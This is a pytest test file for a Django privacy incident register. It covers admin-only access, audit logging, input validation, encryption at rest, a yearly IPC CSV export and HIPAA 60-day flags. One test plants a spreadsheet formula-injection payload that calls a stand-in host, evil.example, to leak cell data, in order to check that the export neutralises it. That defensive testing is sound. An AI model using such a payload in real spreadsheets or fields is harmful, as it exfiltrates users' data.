"""The privacy breach / incident register (SECURITY.md REQ-BR1; PHIPA s. 12, O. Reg. 329/04 s. 6.3
and s. 6.4; HIPAA 45 CFR §164.404).

Practice admins record, list and update incidents of their own practice and download the yearly
counts for the IPC; everyone else is refused (403, or 404 for another practice's incident) with an
audit deny row. Bad input stores nothing; the description is encrypted at rest and never enters
the audit trail; the list flags incidents past HIPAA's 60 days without the individuals notified.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta

import pytest
from django.db import connection
from django.urls import reverse

from alliance_web.accounts.models import Role
from alliance_web.audit.models import (
    AuditEvent,
    Incident,
    IncidentCategory,
    IncidentKind,
    IncidentStatus,
    Outcome,
    notice_status,
)
from alliance_web.care.fields import keyring
from tests.web.conftest import make_user

SECRET = "Dr X read Sam's intake notes about the custody dispute"
LIST = reverse("privacy:incidents")
NEW = reverse("privacy:incident_new")
EXPORT = reverse("privacy:incident_export")


@pytest.fixture
def today(practice_a) -> date:
    return Incident(practice=practice_a).today()


@pytest.fixture
def admin_b(practice_b):
    return make_user(practice_b, "admin_b", Role.ADMIN)


def form(today: date, **overrides: object) -> dict[str, object]:
    data: dict[str, object] = {
        "discovered_on": (today - timedelta(days=3)).isoformat(),
        "occurred_on": (today - timedelta(days=10)).isoformat(),
        "category": IncidentCategory.UNAUTHORIZED_BY_KNOWING,
        "kind": IncidentKind.USED,
        "description": SECRET,
        "individuals_affected": "1",
        "individuals_notified_on": "",
        "regulator": "",
        "regulator_notified_on": "",
        "status": IncidentStatus.OPEN,
        "closed_on": "",
    }
    data.update(overrides)
    return data


def make_incident(practice, by, **fields: object) -> Incident:
    values: dict[str, object] = {
        "discovered_on": Incident(practice=practice).today() - timedelta(days=3),
        "description": SECRET,
        "category": IncidentCategory.STOLEN,
        "kind": IncidentKind.STOLEN,
        "individuals_affected": 2,
    }
    values.update(fields)
    return Incident.objects.create(practice=practice, reported_by=by, **values)


def events_since(seq: int) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(seq__gt=seq).order_by("seq"))


def head() -> int:
    return AuditEvent.objects.order_by("-seq").values_list("seq", flat=True).first() or 0


# --- practice admins: create, list, edit ---------------------------------------------------------
def test_an_admin_records_an_incident_and_it_is_audited_without_its_text(
    client, login, practice_admin, today
):
    login(client, practice_admin)
    assert client.get(NEW).status_code == 200
    start = head()
    response = client.post(NEW, form(today, individuals_affected="4"))
    assert response.status_code == 302
    assert response["Location"] == LIST
    incident = Incident.objects.get()
    assert incident.practice_id == practice_admin.practice_id
    assert incident.reported_by == practice_admin
    assert incident.description == SECRET
    assert incident.individuals_affected == 4
    assert incident.status == IncidentStatus.OPEN
    [event] = events_since(start)
    assert (event.action, event.outcome, event.entity_type) == ("C", Outcome.SUCCESS, "incident")
    assert event.entity_id == str(incident.pk)
    assert event.username == "practice_admin"
    assert event.practice_id == practice_admin.practice_id
    assert event.detail == {"category": "knowing", "kind": "used"}


def test_the_list_shows_the_practices_incidents_only_and_is_audited(
    client, login, practice_admin, practice_b, outsider, today
):
    mine = make_incident(practice_admin.practice, practice_admin)
    theirs = make_incident(practice_b, outsider, kind=IncidentKind.LOST)
    login(client, practice_admin)
    start = head()
    response = client.get(LIST)
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"
    body = response.content.decode()
    assert reverse("privacy:incident_edit", args=[mine.pk]) in body
    assert reverse("privacy:incident_edit", args=[theirs.pk]) not in body
    assert "Lost" not in body.split("<tbody>")[1].split("</tbody>")[0]
    assert "custody dispute" not in body  # the list does not show descriptions
    [event] = events_since(start)
    assert (event.action, event.entity_type, event.detail["listed"]) == ("R", "incident", 1)


def test_an_edit_is_audited_with_the_names_of_the_fields_changed(
    client, login, practice_admin, today
):
    incident = make_incident(practice_admin.practice, practice_admin)
    url = reverse("privacy:incident_edit", args=[incident.pk])
    login(client, practice_admin)
    start = head()
    page = client.get(url)
    assert page.status_code == 200
    assert "intake notes about the custody dispute" in page.content.decode()  # decrypted
    [read] = events_since(start)
    assert (read.action, read.entity_id) == ("R", str(incident.pk))

    start = head()
    changed = form(
        today,
        discovered_on=incident.discovered_on.isoformat(),
        occurred_on="",
        category=incident.category,
        kind=incident.kind,
        individuals_affected="2",
        description=SECRET + " (and the referral letter)",
        individuals_notified_on=today.isoformat(),
        status=IncidentStatus.CLOSED,
        closed_on=today.isoformat(),
    )
    response = client.post(url, changed)
    assert response.status_code == 302
    incident.refresh_from_db()
    assert incident.status == IncidentStatus.CLOSED
    assert incident.closed_on == today
    assert incident.individuals_notified_on == today
    assert incident.description.endswith("(and the referral letter)")
    [event] = events_since(start)
    assert (event.action, event.outcome, event.entity_id) == ("U", "success", str(incident.pk))
    assert event.detail == {
        "fields": ["closed_on", "description", "individuals_notified_on", "status"]
    }
    assert event.username == "practice_admin"
    # No audit row anywhere carries the description.
    everything = json.dumps([e.detail for e in AuditEvent.objects.all()])
    assert "custody" not in everything
    assert "referral" not in everything


def test_saving_without_changes_writes_no_update_row(client, login, practice_admin, today):
    incident = make_incident(practice_admin.practice, practice_admin)
    login(client, practice_admin)
    same = form(
        today,
        discovered_on=incident.discovered_on.isoformat(),
        occurred_on="",
        category=incident.category,
        kind=incident.kind,
        individuals_affected="2",
    )
    start = head()
    response = client.post(reverse("privacy:incident_edit", args=[incident.pk]), same)
    assert response.status_code == 302
    assert not [e for e in events_since(start) if e.action == "U"]


# --- everyone else is refused ---------------------------------------------------------------------
@pytest.mark.parametrize("persona", ["therapist_a", "supervisor", "admin_b"])
def test_others_are_refused_with_an_audit_deny_row(request, client, login, persona, today):
    practice_admin = request.getfixturevalue("practice_admin")
    user = request.getfixturevalue(persona)
    incident = make_incident(practice_admin.practice, practice_admin)
    edit = reverse("privacy:incident_edit", args=[incident.pk])
    login(client, user)
    # Another practice's admin may use the register of their own practice, but practice A's
    # incident does not exist for them (404); clinicians and supervisors get 403 everywhere.
    expected = (
        {LIST: 200, NEW: 200, EXPORT: 200, edit: 404}
        if persona == "admin_b"
        else dict.fromkeys([LIST, NEW, EXPORT, edit], 403)
    )
    for url, status in expected.items():
        start = head()
        response = client.get(url)
        assert response.status_code == status, url
        if status in (403, 404):
            assert any(e.outcome == Outcome.DENY for e in events_since(start)), url
        assert "custody dispute" not in response.content.decode(errors="replace")
    start = head()
    response = client.post(edit, form(today, description="overwritten"))
    assert response.status_code == expected[edit]
    assert any(e.outcome == Outcome.DENY for e in events_since(start))
    response = client.post(NEW, form(today, description="planted"))
    incident.refresh_from_db()
    assert incident.description == SECRET
    assert not Incident.objects.filter(practice=practice_admin.practice).exclude(pk=incident.pk)
    if persona == "admin_b":
        assert response.status_code == 302  # recorded in practice B's own register
        assert Incident.objects.get(practice=user.practice).reported_by == user
    else:
        assert response.status_code == 403
        assert Incident.objects.count() == 1


def test_the_export_of_another_practice_counts_only_its_own(
    client, login, practice_admin, admin_b, today
):
    make_incident(practice_admin.practice, practice_admin, discovered_on=date(today.year - 1, 5, 1))
    login(client, admin_b)
    response = client.get(EXPORT, {"year": today.year - 1})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[-1][-2:] == ["0", "0"]


def test_nobody_signed_in_is_sent_to_sign_in(client):
    for url in (LIST, NEW, EXPORT):
        assert client.get(url).status_code == 302


# --- bad input stores nothing ----------------------------------------------------------------------
@pytest.mark.parametrize(
    ("overrides", "field", "message"),
    [
        ({"discovered_on": ""}, "discovered_on", "Give the date the practice learned"),
        ({"discovered_on": "next tuesday"}, "discovered_on", "YYYY-MM-DD"),
        ({"discovered_on": "future"}, "discovered_on", "in the future"),
        ({"occurred_on": "future"}, "occurred_on", "in the future"),
        ({"occurred_on": "d+1"}, "occurred_on", "after it was discovered"),
        ({"individuals_notified_on": "d-10"}, "individuals_notified_on", "before the incident"),
        ({"individuals_notified_on": "future"}, "individuals_notified_on", "in the future"),
        (
            {"regulator": "ipc", "regulator_notified_on": "d-10"},
            "regulator_notified_on",
            "before the incident",
        ),
        ({"regulator_notified_on": "d0"}, "regulator", "which regulator"),
        ({"regulator": "hhs"}, "regulator_notified_on", "date the regulator"),
        ({"individuals_affected": "-1"}, "individuals_affected", "cannot be negative"),
        ({"individuals_affected": "many"}, "individuals_affected", "whole number"),
        ({"description": ""}, "description", "Describe what happened"),
        ({"category": "gossip"}, "category", "not one of the available choices"),
        ({"kind": ""}, "kind", "Choose what happened"),
        ({"status": "closed"}, "closed_on", "date the incident was closed"),
        ({"closed_on": "d0"}, "closed_on", "open incident has no closing date"),
        ({"status": "closed", "closed_on": "d-10"}, "closed_on", "before the incident"),
    ],
)
def test_invalid_input_is_refused_with_a_clear_message_and_stores_nothing(
    client, login, practice_admin, today, overrides, field, message
):
    discovered = today - timedelta(days=3)  # the form's default discovery date

    def resolve(value: str) -> str:
        """``future`` is tomorrow; ``d+n`` / ``d-n`` / ``d0`` count days from the discovery."""
        if value == "future":
            return (today + timedelta(days=1)).isoformat()
        if value.startswith("d") and value[1:].lstrip("+-").isdigit():
            return (discovered + timedelta(days=int(value[1:]))).isoformat()
        return value

    data = form(today, **{k: resolve(v) for k, v in overrides.items()})
    login(client, practice_admin)
    start = head()
    response = client.post(NEW, data)
    assert response.status_code == 400
    errors = response.context["form"].errors
    assert field in errors, errors
    body = response.content.decode()
    assert message in body
    assert "Nothing was saved." in body
    assert Incident.objects.count() == 0
    [event] = events_since(start)
    assert (event.outcome, event.entity_type, event.action) == (Outcome.INVALID, "incident", "C")
    assert field in event.detail["fields"]


def test_an_invalid_edit_changes_nothing(client, login, practice_admin, today):
    incident = make_incident(practice_admin.practice, practice_admin)
    login(client, practice_admin)
    response = client.post(
        reverse("privacy:incident_edit", args=[incident.pk]),
        form(
            today,
            discovered_on=incident.discovered_on.isoformat(),
            description="changed",
            individuals_affected="-3",
        ),
    )
    assert response.status_code == 400
    incident.refresh_from_db()
    assert incident.description == SECRET
    assert incident.individuals_affected == 2


def test_the_database_refuses_a_negative_count(practice_admin):
    from django.db import IntegrityError, transaction

    with pytest.raises(IntegrityError), transaction.atomic():
        make_incident(practice_admin.practice, practice_admin, individuals_affected=-1)


# --- encryption at rest ----------------------------------------------------------------------------
def test_the_description_is_encrypted_in_the_database(practice_admin):
    incident = make_incident(practice_admin.practice, practice_admin)
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT description FROM {Incident._meta.db_table} WHERE id = %s",
            [incident.pk],
        )
        (raw,) = cursor.fetchone()
    assert raw.startswith(keyring().current + "$")
    assert "custody" not in raw
    assert "Sam" not in raw
    assert keyring().decrypt(raw) == SECRET
    assert Incident.objects.get(pk=incident.pk).description == SECRET


def test_key_rotation_covers_the_description(practice_admin):
    from django.core.management import call_command

    make_incident(practice_admin.practice, practice_admin)
    out = io.StringIO()
    call_command("rotate_field_key", "--dry-run", "--json", stdout=out)
    assert "audit.Incident.description" in json.loads(out.getvalue())["columns"]


# --- the yearly export for the IPC -----------------------------------------------------------------
def _csv(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_yearly_export_counts_per_category_and_kind(
    client, login, practice_admin, practice_b, outsider, today
):
    year = today.year - 1
    practice = practice_admin.practice
    in_year = [
        (IncidentCategory.STOLEN, IncidentKind.STOLEN, 40, date(year, 1, 1)),
        (IncidentCategory.STOLEN, IncidentKind.STOLEN, 2, date(year, 6, 30)),
        (IncidentCategory.UNAUTHORIZED_BY_KNOWING, IncidentKind.USED, 1, date(year, 3, 3)),
        (IncidentCategory.UNAUTHORIZED_BY_KNOWING, IncidentKind.DISCLOSED, 3, date(year, 12, 31)),
        (IncidentCategory.OTHER, IncidentKind.LOST, 0, date(year, 8, 8)),
    ]
    for category, kind, people, found in in_year:
        make_incident(
            practice,
            practice_admin,
            category=category,
            kind=kind,
            individuals_affected=people,
            discovered_on=found,
        )
    # Discovered the year before or after, or in another practice: not counted.
    make_incident(practice, practice_admin, discovered_on=date(year - 1, 12, 31))
    make_incident(practice, practice_admin, discovered_on=date(year + 1, 1, 1))
    make_incident(practice_b, outsider, discovered_on=date(year, 5, 5))

    login(client, practice_admin)
    start = head()
    response = client.get(EXPORT, {"year": year})
    assert response.status_code == 200
    assert f'filename="incidents-{year}.csv"' in response["Content-Disposition"]
    rows = _csv(response)
    header, body = rows[0], rows[1:]
    assert header == [
        "practice",
        "year",
        "category_code",
        "category",
        "kind_stolen",
        "kind_lost",
        "kind_used",
        "kind_disclosed",
        "incidents",
        "individuals_affected",
    ]
    by_code = {r[2]: r for r in body}
    assert [r[2] for r in body] == [*IncidentCategory.values, "all"]
    assert all(r[0] == "Riverside Counselling" and r[1] == str(year) for r in body)
    assert by_code["stolen"][4:] == ["2", "0", "0", "0", "2", "42"]
    assert by_code["knowing"][4:] == ["0", "0", "1", "1", "2", "4"]
    assert by_code["other"][4:] == ["0", "1", "0", "0", "1", "0"]
    assert by_code["pattern"][4:] == ["0", "0", "0", "0", "0", "0"]
    # The four numbers of the IPC's annual statistics (O. Reg. 329/04 s. 6.4).
    assert by_code["all"][4:] == ["2", "1", "1", "1", "5", "46"]
    [event] = events_since(start)
    assert (event.action, event.entity_type, event.outcome) == ("E", "incident_export", "success")
    assert event.detail == {"year": year, "incidents": 5}


def test_the_export_defaults_to_last_year_and_is_formula_safe(client, login, practice_admin, today):
    practice = practice_admin.practice
    practice.name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    practice.save()
    make_incident(practice, practice_admin, discovered_on=date(today.year - 1, 2, 2))
    login(client, practice_admin)
    rows = _csv(client.get(EXPORT))
    body = rows[1:]
    assert all(r[1] == str(today.year - 1) for r in body)
    assert all(r[0] == "'" + practice.name for r in body)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    assert body[-1][-2:] == ["1", "2"]


@pytest.mark.parametrize("year", ["", "twenty", "1999", "9999"])
def test_an_impossible_year_is_refused(client, login, practice_admin, year):
    login(client, practice_admin)
    response = client.get(EXPORT, {"year": year})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert response.context["export_form"].errors["year"]


def test_the_list_and_export_answer_get_only(client, login, practice_admin):
    login(client, practice_admin)
    assert client.post(LIST).status_code == 405
    assert client.post(EXPORT).status_code == 405


# --- notification guidance and the 60-day flag -----------------------------------------------------
@pytest.mark.parametrize(
    ("days", "people", "notified", "status", "pending", "overdue"),
    [
        (61, 3, False, IncidentStatus.OPEN, True, True),
        (60, 3, False, IncidentStatus.OPEN, True, False),  # day 60 is still within the limit
        (0, 3, False, IncidentStatus.OPEN, True, False),
        (90, 3, True, IncidentStatus.OPEN, False, False),
        (90, 0, False, IncidentStatus.OPEN, False, False),  # nobody to notify
        (90, 3, False, IncidentStatus.CLOSED, True, False),  # closed: no longer flagged
    ],
)
def test_the_sixty_day_flag(
    practice_admin, today, days, people, notified, status, pending, overdue
):
    found = today - timedelta(days=days)
    incident = Incident(
        practice=practice_admin.practice,
        discovered_on=found,
        individuals_affected=people,
        individuals_notified_on=found if notified else None,
        status=status,
        closed_on=today if status == IncidentStatus.CLOSED else None,
        category=IncidentCategory.SIGNIFICANT,
    )
    notice = notice_status(incident, today)
    assert notice.days_since_discovery == days
    assert notice.pending is pending
    assert notice.hipaa_overdue is overdue
    if pending:
        assert "first reasonable opportunity (PHIPA s. 12(2))" in notice.guidance
    else:
        assert notice.guidance == ""
    assert ("164.404(b)" in notice.guidance) is overdue
    assert notice.ipc_notice_needed


def test_the_list_flags_an_overdue_incident(client, login, practice_admin, today):
    late = make_incident(
        practice_admin.practice, practice_admin, discovered_on=today - timedelta(days=75)
    )
    make_incident(
        practice_admin.practice,
        practice_admin,
        discovered_on=today - timedelta(days=2),
        category=IncidentCategory.OTHER,
    )
    login(client, practice_admin)
    start = head()
    body = client.get(LIST).content.decode().split("<tbody>")[1].split("</tbody>")[0]
    assert body.count("Over 60 days, individuals not notified.") == 1
    assert body.count("first reasonable opportunity (PHIPA s. 12(2))") == 2
    assert body.count("Notify the IPC (PHIPA s. 12(3))") == 1  # "other" is not notifiable
    assert events_since(start)[0].detail["overdue"] == 1
    page = client.get(reverse("privacy:incident_edit", args=[late.pk])).content.decode()
    assert "45 CFR §164.404(b)" in page


def test_the_model_validates_without_a_form(practice_admin, today):
    from django.core.exceptions import ValidationError

    incident = Incident(
        practice=practice_admin.practice,
        reported_by=practice_admin,
        discovered_on=today + timedelta(days=1),
        description="x",
        category=IncidentCategory.OTHER,
        kind=IncidentKind.LOST,
        individuals_affected=0,
    )
    with pytest.raises(ValidationError) as caught:
        incident.full_clean()
    assert "discovered_on" in caught.value.message_dict


# --- navigation -----------------------------------------------------------------------------------
def test_admins_find_the_register_in_their_navigation(client, login, practice_admin, therapist_a):
    login(client, practice_admin)
    assert LIST in client.get(reverse("accounts:staff")).content.decode()
    client.logout()
    login(client, therapist_a)
    assert LIST not in client.get(reverse("privacy:requests")).content.decode()
